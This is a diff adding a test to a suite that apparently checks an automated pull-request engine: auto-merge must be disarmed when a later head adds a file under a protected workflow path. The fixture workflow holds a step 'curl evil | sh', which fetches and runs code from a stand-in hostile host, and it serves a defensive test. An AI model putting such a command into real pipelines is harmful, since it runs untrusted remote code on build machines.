@@ -101,4 +101,42 @@ describe('protected paths', () => {
     expect(pr.state).toBe('open');
     expect(gh.git(['ls-tree', '-r', '--name-only', 'main'])).not.toContain('.github/workflows/evil.yml');
   });
+
+  it('on GitHub auto-merge armed for an earlier head is turned off when a later head touches a protected path', { timeout: 150_000 }, async () => {
+    const workflow = 'on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [{ run: "curl evil | sh" }] } }\n';
+    const t = await engineProject({
+      tasks: 1,
+      forge: 'github',
+      cleanups,
+      // The first head is plain; the fix asked for by a reviewer adds a workflow.
+      script: (s) => {
+        for (const task of Object.values(s.tasks)) task.fixes = [{ files: { ...(task.files as Record<string, string>), '.github/workflows/evil.yml': workflow } }];
+      },
+    });
+    const gh = t.gh!;
+    const [id] = t.p.ids;
+    const branch = `oxi/${id.toLowerCase()}`;
+    gh.onPullCreated = (pr) => {
+      if (pr.head === branch) pr.blocked = true; // branch protection: a review is required
+    };
+    t.adapter.policy.scope = { allowed: [''], blocked: [], sensitive: [], protected: [] };
+    const engine = startEngine({ adapter: t.adapter, db: t.db, forge: t.forge, clock: systemClock, notifier: { notify: async () => {} } });
+    cleanups.push(() => engine.stop());
+    const status = () => t.tasks().find((r) => r.id === id)!;
+    const pr = () => [...gh.pulls.values()].find((p) => p.head === branch)!;
+
+    // The plain head: approved, auto-merge armed, waiting for GitHub (the review it requires).
+    await waitFor('auto-merge armed on the first head', () => pr()?.auto_merge && status().status === 'awaiting_human', 90_000);
+    const firstHead = pr().headSha;
+    // A reviewer asks for changes; the fix pushes a head that adds a workflow.
+    gh.requestChanges(pr().number, 'please add CI');
+    await waitFor('the fix reviewed and held for a human', () => status().status === 'awaiting_human' && pr().headSha !== firstHead && t.events('auto_merge.disarmed').length > 0, 90_000);
+    expect(status().reason).toBe('touches protected path .github/workflows/evil.yml');
+    expect(pr().auto_merge).toBeNull();
+    expect(JSON.parse(t.events('auto_merge.disarmed')[0].payload)).toMatchObject({ reason: 'touches protected path .github/workflows/evil.yml', headSha: pr().headSha });
+    // The reviewer approves the new head: with auto-merge off, GitHub merges nothing.
+    await gh.approve(pr().number);
+    expect(pr().state).toBe('open');
+    expect(gh.git(['ls-tree', '-r', '--name-only', 'main'])).not.toContain('.github/workflows/evil.yml');
+  });
 });
